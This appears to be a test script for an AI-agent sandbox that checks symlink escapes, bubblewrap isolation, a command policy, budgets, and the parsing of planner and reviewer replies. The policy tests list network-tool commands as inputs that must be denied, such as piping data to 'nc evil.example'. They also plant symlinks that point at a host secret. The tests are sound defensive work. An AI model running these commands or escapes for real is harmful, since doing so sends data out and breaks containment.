@@ -0,0 +1,526 @@
+#!/usr/bin/env bun
+/**
+ * Guard Rail Tests
+ *
+ * Checks the parts of the town that keep agents inside their lines, without a
+ * server, database or model: the sandbox's path checks on a local workspace,
+ * including symlinks planted by shell commands, and its limits on background
+ * processes; the bubblewrap command line the isolated backend runs; the
+ * command policy's rules and approvals; task, agent and session budgets on
+ * the in-memory store; and the parsing of planner replies and reviewer
+ * verdicts.
+ *
+ * Usage:
+ *   bun scripts/test-guardrails.ts
+ */
+
+import * as fs from 'node:fs/promises';
+import * as os from 'node:os';
+import * as path from 'node:path';
+
+const AGENT = 'Tester';
+const TASK_ID = 1;
+
+let passedCount = 0;
+let failedCount = 0;
+
+// Colors for output
+const colors = {
+  green: '\x1b[32m',
+  red: '\x1b[31m',
+  yellow: '\x1b[33m',
+  cyan: '\x1b[36m',
+  reset: '\x1b[0m',
+  bold: '\x1b[1m',
+};
+
+function log(message: string, color: keyof typeof colors = 'reset'): void {
+  console.log(`${colors[color]}${message}${colors.reset}`);
+}
+
+function assert(condition: unknown, message: string): asserts condition {
+  if (!condition) throw new Error(message);
+}
+
+function assertEqual<T>(actual: T, expected: T, what: string): void {
+  if (actual !== expected) {
+    throw new Error(`${what}: expected ${JSON.stringify(expected)}, got ${JSON.stringify(actual)}`);
+  }
+}
+
+async function runTest(name: string, testFn: () => Promise<void>): Promise<void> {
+  const start = Date.now();
+  try {
+    await testFn();
+    passedCount++;
+    log(`  ✓ ${name} (${Date.now() - start}ms)`, 'green');
+  } catch (error) {
+    failedCount++;
+    log(`  ✗ ${name} (${Date.now() - start}ms)`, 'red');
+    log(`    Error: ${error instanceof Error ? error.message : String(error)}`, 'yellow');
+  }
+}
+
+async function testSandbox(root: string): Promise<void> {
+  log('Sandbox', 'cyan');
+
+  const { SharedSandboxService } = await import('../src/eliza/sharedSandbox.js');
+  const sandbox = new SharedSandboxService({
+    mode: 'local',
+    allowedDirectory: path.join(root, 'sandbox'),
+    workspaces: 'task',
+    git: false,
+    timeoutMs: 10000,
+  });
+  await sandbox.initialize();
+  sandbox.setAgentTask(AGENT, TASK_ID);
+  const taskRoot = path.join(root, 'sandbox', 'tasks', `task-${TASK_ID}`);
+
+  // A host file the agent must never see or change
+  const secret = path.join(root, 'host-secret.txt');
+  await fs.writeFile(secret, 'host secret\n');
+
+  try {
+    await runTest('Files inside the workspace can be written and read', async () => {
+      const written = await sandbox.writeFile('src/app.ts', 'export {};\n', AGENT);
+      assert(written.ok, `write failed: ${written.error}`);
+      assertEqual((await sandbox.readFile('src/app.ts', AGENT)).content, 'export {};\n', 'content');
+    });
+
+    await runTest('Paths that climb out of the workspace are refused', async () => {
+      assertEqual((await sandbox.readFile('../../../host-secret.txt', AGENT)).error, 'Path outside allowed directory', 'read');
+      assertEqual((await sandbox.writeFile(secret, 'x', AGENT)).error, 'Path outside allowed directory', 'write');
+    });
+
+    await runTest('A symlink to a host file is refused for reads, writes and edits', async () => {
+      const link = await sandbox.executeShell(`ln -s ${secret} leak.txt`, AGENT);
+      assert(link.success, `ln failed: ${link.stderr}`);
+
+      assertEqual((await sandbox.readFile('leak.txt', AGENT)).error, 'Path outside allowed directory', 'read');
+      assertEqual((await sandbox.writeFile('leak.txt', 'owned\n', AGENT)).error, 'Path outside allowed directory', 'write');
+      assert(!(await sandbox.editFile('leak.txt', 'host', 'owned', AGENT)).ok, 'edit went through');
+      assertEqual(await fs.readFile(secret, 'utf-8'), 'host secret\n', 'host file');
+    });
+
+    await runTest('A symlinked directory is refused for new files under it', async () => {
+      const link = await sandbox.executeShell(`ln -s ${root} outside`, AGENT);
+      assert(link.success, `ln failed: ${link.stderr}`);
+
+      assertEqual((await sandbox.writeFile('outside/planted.txt', 'x', AGENT)).error, 'Path outside allowed directory', 'write');
+      assertEqual((await sandbox.listFiles('outside', AGENT)).error, 'Path outside allowed directory', 'list');
+      await assertMissing(path.join(root, 'planted.txt'));
+    });
+
+    await runTest('Symlinks that stay inside the workspace still work', async () => {
+      const link = await sandbox.executeShell('ln -s src/app.ts app-link.ts', AGENT);
+      assert(link.success, `ln failed: ${link.stderr}`);
+      assertEqual((await sandbox.readFile('app-link.ts', AGENT)).content, 'export {};\n', 'content');
+      assertEqual(await fs.readFile(path.join(taskRoot, 'src/app.ts'), 'utf-8'), 'export {};\n', 'target');
+    });
+
+    await runTest('A task can run only so many background processes, all stopped when it ends', async () => {
+      const { stopTaskProcesses, getProcess } = await import('../src/eliza/shellProcesses.js');
+      const started: number[] = [];
+      for (let i = 0; i < 4; i++) {
+        const result = await sandbox.startBackgroundShell('sleep 30', AGENT);
+        assert(result.ok && result.process, `start failed: ${result.error}`);
+        started.push(result.process.id);
+      }
+      const extra = await sandbox.startBackgroundShell('sleep 30', AGENT);
+      assert(!extra.ok && extra.error?.includes('Already running 4 background processes'), `fifth start: ${extra.error}`);
+
+      assertEqual(stopTaskProcesses(TASK_ID), 4, 'stopped');
+      for (const id of started) assertEqual(getProcess(id)?.status, 'cancelled', `process #${id}`);
+      assert((await sandbox.startBackgroundShell('true', AGENT)).ok, 'start after the task ended');
+    });
+  } finally {
+    await sandbox.close();
+  }
+}
+
+async function testIsolation(root: string): Promise<void> {
+  log('\nIsolated shell', 'cyan');
+
+  const { buildIsolatedCommand, sandboxEnv, BWRAP_PATH, PRLIMIT_PATH } = await import('../src/eliza/isolation.js');
+  const workspaceRoot = path.join(root, 'workspace');
+  const repository = path.join(workspaceRoot, '.git');
+  await fs.mkdir(repository, { recursive: true });
+  const options = {
+    workspaceRoot,
+    cwd: path.join(workspaceRoot, 'src'),
+    limits: { cpuSeconds: 5, memoryMb: 256, processes: 16, fileSizeMb: 10 },
+    network: false,
+    hiddenPaths: ['/srv/town', '/root'],
+    readOnlyPaths: [repository, path.join(root, 'elsewhere')],
+  };
+
+  // Index of a flag followed by its values, or -1
+  const find = (args: string[], ...sequence: string[]) =>
+    args.findIndex((_, i) => sequence.every((value, j) => args[i + j] === value));
+
+  await runTest('prlimit applies the resource limits, then starts bubblewrap', async () => {
+    const { file, args } = buildIsolatedCommand('make', options);
+    assertEqual(file, PRLIMIT_PATH, 'program');
+    assertEqual(args.slice(0, 5).join(' '), `--cpu=5 --as=${256 * 1024 * 1024} --nproc=16 --fsize=${10 * 1024 * 1024} ${BWRAP_PATH}`, 'prlimit args');
+    assertEqual(args.slice(-4).join(' '), '-- /bin/sh -c make', 'command');
+  });
+
+  await runTest('Namespaces are unshared and the network is off unless asked for', async () => {
+    const offline = buildIsolatedCommand('true', options).args;
+    for (const flag of ['--die-with-parent', '--new-session', '--clearenv', '--unshare-all']) {
+      assert(offline.includes(flag), `missing ${flag}`);
+    }
+    assert(!offline.includes('--share-net'), 'network shared');
+    assert(buildIsolatedCommand('true', { ...options, network: true }).args.includes('--share-net'), 'network not shared');
+  });
+
+  await runTest('Only the workspace is writable, with hidden paths masked and the repository read-only', async () => {
+    const { args } = buildIsolatedCommand('true', options);
+    const rootBind = find(args, '--ro-bind', '/', '/');
+    const workspaceBind = find(args, '--bind', workspaceRoot, workspaceRoot);
+    assert(rootBind >= 0, 'host not mounted read-only');
+    assertEqual(args.filter((arg) => arg === '--bind').length, 1, 'writable binds');
+    for (const hidden of options.hiddenPaths) {
+      const masked = find(args, '--tmpfs', hidden);
+      assert(masked > rootBind && masked < workspaceBind, `${hidden} not masked before the workspace bind`);
+    }
+    assert(find(args, '--ro-bind', repository, repository) > workspaceBind, 'repository not bound back read-only');
+    assert(!args.includes(path.join(root, 'elsewhere')), 'a read-only path outside the workspace was bound');
+    assert(find(args, '--chdir', options.cwd) >= 0, 'working directory');
+  });
+
+  await runTest('Commands see only the allowlisted environment', async () => {
+    process.env.GUARDRAIL_SECRET = 'sk-secret';
+    try {
+      const { args } = buildIsolatedCommand('env', options);
+      const names = args.flatMap((arg, i) => (arg === '--setenv' ? [args[i + 1]] : [])).sort();
+      assertEqual(names.join(' '), [...Object.keys(sandboxEnv(workspaceRoot, '/tmp'))].sort().join(' '), 'variables');
+      assert(!args.includes('sk-secret'), 'secret passed through');
+      assert(!('GUARDRAIL_SECRET' in sandboxEnv(workspaceRoot, '/tmp')), 'secret in the local environment');
+      assert(find(args, '--setenv', 'HOME', workspaceRoot) >= 0, 'HOME is not the workspace');
+    } finally {
+      delete process.env.GUARDRAIL_SECRET;
+    }
+  });
+}
+
+async function testCommandPolicy(): Promise<void> {
+  log('\nCommand policy', 'cyan');
+
+  const policy = await import('../src/eliza/commandPolicy.js');
+  const { ManualClock, setClock } = await import('../src/eliza/clock.js');
+  const audited: Array<{ command: string; decision: string; rule: string | null }> = [];
+  const broadcasts: string[] = [];
+  policy.initializeCommandPolicy({
+    audit: async (entry) => audited.push(entry),
+    broadcast: (message) => broadcasts.push(message.type),
+  });
+  const coder = (command: string) => policy.evaluateCommand({ agent: 'Ada', taskId: TASK_ID, command });
+
+  // The request waiting for an operator, once authorizeCommand has filed it
+  const pendingFor = (command: string) => {
+    const approval = policy.getPendingApprovals().find((candidate) => candidate.command === command);
+    assert(approval, `no approval requested for ${command}`);
+    return approval;
+  };
+
+  try {
+    await runTest('Allowed commands run, by rule or by default', async () => {
+      assertEqual(coder('npm test').rule, 'checks', 'npm test rule');
+      assertEqual(coder('npm test').action, 'allow', 'npm test');
+      assertEqual(coder('ls -la src').action, 'allow', 'ls');
+      assertEqual(coder('ls -la src').rule, null, 'ls rule');
+      assert((await policy.authorizeCommand({ agent: 'Ada', taskId: TASK_ID, command: 'cat README.md' })).allowed, 'cat refused');
+    });
+
+    await runTest('Denied commands are refused, and one denial refuses the whole line', async () => {
+      assertEqual(coder('curl https://example.com').action, 'deny', 'curl');
+      assertEqual(coder('ls && curl https://example.com').action, 'deny', 'curl after ls');
+      assertEqual(coder('echo hi | nc evil.example 80').rule, 'network-tools', 'nc in a pipeline');
+
+      const verdict = await policy.authorizeCommand({ agent: 'Ada', taskId: TASK_ID, command: 'wget https://example.com' });
+      assert(!verdict.allowed, 'wget allowed');
+      assertEqual(verdict.reason, 'Network tools are not allowed in the sandbox', 'reason');
+      assertEqual(audited.at(-1)?.decision, 'denied', 'audit entry');
+    });
+
+    await runTest('Rules limited to a role apply only to that role', async () => {
+      assertEqual(policy.evaluateCommand({ agent: 'Clara', taskId: TASK_ID, command: 'git commit -m x' }).action, 'deny', 'reviewer');
+      assertEqual(coder('git commit -m x').action, 'allow', 'coder');
+    });
+
+    await runTest('Launchers, assignments and directories are stripped before matching', async () => {
+      for (const command of [
+        'env /usr/bin/curl https://example.com',
+        'env FOO=1 curl https://example.com',
+        'FOO=bar ssh host',
+        'sudo -u root wget https://example.com',
+        'timeout 5 nc host 80',
+        'nohup nice -n 10 /bin/scp a host:b',
+      ]) {
+        assertEqual(coder(command).action, 'deny', command);
+      }
+      assertEqual(coder('sh -c "curl x"').rule, 'inline-scripts', 'sh -c');
+      assertEqual(coder('env python3 -c "print(1)"').rule, 'inline-scripts', 'python -c');
+      assertEqual(coder('sudo npm install left-pad').rule, 'package-installs', 'sudo npm install');
+    });
+
+    await runTest('Commands that need approval wait for an operator', async () => {
+      const approved = policy.authorizeCommand({ agent: 'Ada', taskId: TASK_ID, command: 'npm install left-pad' });
+      const request = pendingFor('npm install left-pad');
+      assertEqual(request.rule, 'package-installs', 'rule');
+      assertEqual(broadcasts.at(-1), 'command_approval_requested', 'broadcast');
+      assert(policy.resolveApproval(request.id, true, 'tester'), 'approval not found');
+      assert((await approved).allowed, 'approved command refused');
+
+      const rejected = policy.authorizeCommand({ agent: 'Ada', taskId: TASK_ID, command: 'git push origin main' });
+      policy.resolveApproval(pendingFor('git push origin main').id, false, 'tester', 'Not today');
+      const verdict = await rejected;
+      assert(!verdict.allowed, 'rejected command allowed');
+      assert(verdict.reason?.includes('Not today'), `reason: ${verdict.reason}`);
+
+      assertEqual(audited.slice(-2).map((entry) => entry.decision).join(' '), 'approved rejected', 'audit entries');
+      assertEqual(policy.resolveApproval(request.id, true), null, 'answering twice');
+    });
+
+    await runTest('Approval waits are timed on the town clock', async () => {
+      const clock = new ManualClock();
+      setClock(clock);
+      const before = policy.approvalWaitTime('Byron');
+
+      const verdict = policy.authorizeCommand({ agent: 'Byron', taskId: TASK_ID, command: 'pip install requests' });
+      clock.advance(90_000);
+      assertEqual(policy.approvalWaitTime('Byron') - before, 90_000, 'while pending');
+      policy.resolveApproval(pendingFor('pip install requests').id, true);
+      await verdict;
+      clock.advance(30_000);
+      assertEqual(policy.approvalWaitTime('Byron') - before, 90_000, 'after the answer');
+    });
+  } finally {
+    setClock(null);
+    policy.initializeCommandPolicy({});
+  }
+}
+
+async function testBudgets(): Promise<void> {
+  log('\nBudgets', 'cyan');
+
+  const db = await import('../src/db/index.js');
+  const budgets = await import('../src/eliza/budgets.js');
+  await db.initializeDatabase('memory');
+  budgets.initializeBudgets({ db });
+
+  const agent = await db.createAgent('Ada', 'coder', 'test-model', '', '');
+  const spend = (taskId: number, tokens: number, costUsd: number) => db.logApiCall({
+    agent_id: agent.id,
+    task_id: taskId,
+    subtask_id: null,
+    provider: 'test',
+    model: 'test-model',
+    input_tokens: tokens,
+    output_tokens: 0,
+    usage_estimated: false,
+    cost_usd: costUsd,
+    prompt_summary: '',
+    response_summary: '',
+    duration_ms: 1,
+  });
+  const forTask = (taskId: number, scopes?: Array<'task' | 'agent' | 'session'>) =>
+    budgets.checkBudgets({ agent: 'Ada', agentDbId: agent.id, taskId, scopes });
+
+  try {
+    await runTest('A task is stopped once its budget is used up, and goes on when it is raised', async () => {
+      const task = await db.createTask('Budgeted', null, 5, null, null, { tokens: 1000, costUsd: null });
+      await spend(task.id, 600, 0);
+      assertEqual(await forTask(task.id), null, 'under budget');
+
+      await spend(task.id, 600, 0);
+      const breach = await forTask(task.id);
+      assertEqual(breach?.scope, 'task', 'scope');
+      assertEqual(breach?.spent.tokens, 1200, 'spent');
+      const blocked = await budgets.assertWithinBudget({ agent: 'Ada', agentDbId: agent.id, taskId: task.id }).catch((error) => error);
+      assert(blocked instanceof budgets.BudgetExceededError, 'decision not blocked');
+
+      await db.setTaskBudget(task.id, { tokens: 2000, costUsd: null });
+      assertEqual(await forTask(task.id, ['task']), null, 'after raising the limit');
+    });
+
+    await runTest("An agent's daily budget stops only that agent", async () => {
+      const task = await db.createTask('Busy agent', null, 5, null, null, { tokens: null, costUsd: null });
+      budgets.updateBudgets({ agents: { Ada: { tokens: 2500, costUsd: null } } });
+      await spend(task.id, 1500, 0);
+
+      assertEqual((await forTask(task.id))?.scope, 'agent', 'scope');
+      assertEqual(await forTask(task.id, ['task', 'session']), null, 'task and session');
+
+      budgets.updateBudgets({ agents: { Ada: null } });
+      assertEqual(await forTask(task.id, ['agent']), null, 'after removing the limit');
+    });
+
+    await runTest("A session's daily budget covers all of its tasks", async () => {
+      budgets.updateBudgets({ sessions: { 'session-1': { tokens: null, costUsd: 0.05 } } });
+      const first = await db.createTask('First', null, 5, 'session-1', null, { tokens: null, costUsd: null });
+      const second = await db.createTask('Second', null, 5, 'session-1', null, { tokens: null, costUsd: null });
+      await spend(first.id, 10, 0.03);
+      assertEqual(await forTask(second.id, ['session']), null, 'under budget');
+
+      await spend(second.id, 10, 0.03);
+      const breach = await forTask(first.id, ['task', 'session']);
+      assertEqual(breach?.scope, 'session', 'scope');
+      assertEqual(breach?.key, 'session-1', 'key');
+
+      budgets.updateBudgets({ sessions: { 'session-1': { tokens: null, costUsd: 1 } } });
+      assertEqual(await forTask(first.id, ['session']), null, 'after raising the limit');
+    });
+
+    await runTest('An invalid update is refused and changes nothing', async () => {
+      const before = JSON.stringify(budgets.getBudgets());
+      let error: unknown = null;
+      try {
+        budgets.updateBudgets({ agentDaily: { tokens: -1 } });
+      } catch (caught) {
+        error = caught;
+      }
+      assert(error instanceof Error && error.message.includes('non-negative'), `error: ${String(error)}`);
+      assertEqual(JSON.stringify(budgets.getBudgets()), before, 'budgets');
+    });
+  } finally {
+    budgets.updateBudgets({ sessions: { 'session-1': null } });
+    budgets.initializeBudgets({});
+    await db.closeDatabase();
+  }
+}
+
+async function testPlans(): Promise<void> {
+  log('\nPlanner output', 'cyan');
+
+  const { parsePlan, normalizeRole, MAX_PLAN_SUBTASKS } = await import('../src/eliza/planSchema.js');
+  const step = (title: string, role: string, dependencies: number[] = []) => ({
+    title,
+    description: `Do ${title.toLowerCase()}`,
+    role,
+    dependencies,
+    acceptanceCriteria: [`${title} is done`],
+    estimatedEffort: 'small',
+  });
+  const reply = (subtasks: unknown[]) => `Here is the plan.\n\`\`\`json\n${JSON.stringify({ subtasks })}\n\`\`\``;
+  const errorsOf = (text: string) => {
+    const result = parsePlan(text);
+    assert(!result.ok, 'plan accepted');
+    return result.errors;
+  };
+
+  await runTest('A well-formed plan is accepted, with role aliases normalized', async () => {
+    const result = parsePlan(reply([step('Design', 'design'), step('Build', 'Coder', [1]), step('Review', 'review', [1, 2, 2])]));
+    assert(result.ok, `plan refused: ${result.ok ? '' : result.errors.join('; ')}`);
+    assertEqual(result.plan.subtasks.map((st) => st.role).join(' '), 'designer coder reviewer', 'roles');
+    assertEqual(result.plan.subtasks[2].dependencies.join(','), '1,2', 'deduplicated dependencies');
+  });
+
+  await runTest('Replies without usable JSON get an error for the repair prompt', async () => {
+    assert(errorsOf('I think we should design it first, then build it.')[0].includes('No JSON object'), 'prose');
+    assert(errorsOf('```json\n{ "subtasks": [ { "title": "x", } ] }\n```')[0].includes('could not be parsed'), 'broken JSON');
+    assert(errorsOf('```json\n{ "steps": [] }\n```')[0].includes('"subtasks" array'), 'wrong shape');
+  });
+
+  await runTest('Every schema problem is reported at once', async () => {
+    const errors = errorsOf(reply([
+      { ...step('Design', 'manager'), acceptanceCriteria: [] },
+      { ...step('Build', 'coder', [2]), estimatedEffort: 'huge' },
+    ]));
+    for (const expected of ['subtasks[1].role', 'subtasks[1].acceptanceCriteria', 'subtasks[2].dependencies', 'subtasks[2].estimatedEffort']) {
+      assert(errors.some((error) => error.startsWith(expected)), `no error for ${expected}: ${errors.join('; ')}`);
+    }
+    const tooMany = Array.from({ length: MAX_PLAN_SUBTASKS + 1 }, (_, i) => step(`Step ${i + 1}`, 'coder'));
+    assert(errorsOf(reply(tooMany)).some((error) => error.includes('between')), 'too many subtasks');
+  });
+
+  await runTest('A repaired reply after a malformed one is accepted', async () => {
+    // The replies a planner gives across the orchestrator's repair loop
+    const replies = ['Plan: design, build, review.', reply([step('Build', 'coder', [1])]), reply([step('Build', 'coder')])];
+    const results = replies.map(parsePlan);
+    assertEqual(results.map((result) => result.ok).join(' '), 'false false true', 'results');
+  });
+
+  await runTest('Subtask roles from the API go through the same normalization', async () => {
+    assertEqual(normalizeRole(' Reviewer '), 'reviewer', 'padded role');
+    assertEqual(normalizeRole('implement'), 'coder', 'alias');
+    assertEqual(normalizeRole('manager'), null, 'unknown role');
+    assertEqual(normalizeRole(undefined), null, 'missing role');
+  });
+}
+
+async function testReviewVerdicts(): Promise<void> {
+  log('\nReviewer verdicts', 'cyan');
+
+  const { parseReviewVerdict, REVIEW_VERDICT_EXAMPLE } = await import('../src/eliza/reviewVerdict.js');
+  const fence = (json: string) => `\`\`\`json\n${json}\n\`\`\``;
+
+  await runTest('A fenced verdict is read, with loose spellings of the decision', async () => {
+    const verdict = parseReviewVerdict(`Looks good.\n${fence('{ "verdict": "LGTM", "summary": "Fine", "issues": [] }')}`);
+    assertEqual(verdict?.verdict, 'approve', 'verdict');
+    assertEqual(verdict?.summary, 'Fine', 'summary');
+
+    const rejected = parseReviewVerdict(fence('{ "verdict": "changes_requested", "issues": ["Add tests", ""] }'));
+    assertEqual(rejected?.verdict, 'request_changes', 'rejection');
+    assertEqual(rejected?.issues.join('|'), 'Add tests', 'issues');
+  });
+
+  await runTest('The verdict that closes the reply wins over quoted examples', async () => {
+    const text = `The format is:\n${fence(REVIEW_VERDICT_EXAMPLE)}\nMy review:\n${fence('{ "verdict": "approve", "issues": [] }')}`;
+    assertEqual(parseReviewVerdict(text)?.verdict, 'approve', 'verdict');
+
+    const bare = 'Checked { braces } in prose. {"verdict": "approve", "summary": "Handles \\"{\\" in strings"} thanks';
+    assertEqual(parseReviewVerdict(bare)?.summary, 'Handles "{" in strings', 'bare object');
+  });
+
+  await runTest('Malformed verdicts are not read as approvals', async () => {
+    for (const text of [
+      'Approved, ship it!',
+      fence('{ "verdict": "maybe", "issues": [] }'),
+      fence('{ "verdict": "approve", }'),
+      '{"summary": "no decision"}',
+      '',
+    ]) {
+      assertEqual(parseReviewVerdict(text), null, JSON.stringify(text));
+    }
+    assertEqual(parseReviewVerdict(null), null, 'null reply');
+  });
+
+  await runTest('A broken closing verdict falls back to the last one that parses', async () => {
+    const text = `${fence('{ "verdict": "request_changes", "issues": ["Fix the bug"] }')}\n${fence('{ "verdict": "approve" ')}`;
+    assertEqual(parseReviewVerdict(text)?.verdict, 'request_changes', 'verdict');
+  });
+}
+
+async function assertMissing(file: string): Promise<void> {
+  const exists = await fs.access(file).then(() => true, () => false);
+  assert(!exists, `${file} was created`);
+}
+
+async function runAllTests(): Promise<void> {
+  log('\n========================================', 'bold');
+  log('  Guard Rail Tests', 'cyan');
+  log('========================================\n', 'bold');
+
+  const root = await fs.mkdtemp(path.join(os.tmpdir(), 'eliza-town-guards-'));
+  try {
+    await testSandbox(root);
+    await testIsolation(root);
+    await testCommandPolicy();
+    await testBudgets();
+    await testPlans();
+    await testReviewVerdicts();
+  } finally {
+    await fs.rm(root, { recursive: true, force: true });
+  }
+
+  const total = passedCount + failedCount;
+  log(`\nPassed: ${passedCount}/${total}`, failedCount > 0 ? 'yellow' : 'green');
+  process.exit(failedCount > 0 ? 1 : 0);
+}
+
+runAllTests().catch((error) => {
+  console.error('Test runner failed:', error);
+  process.exit(1);
+});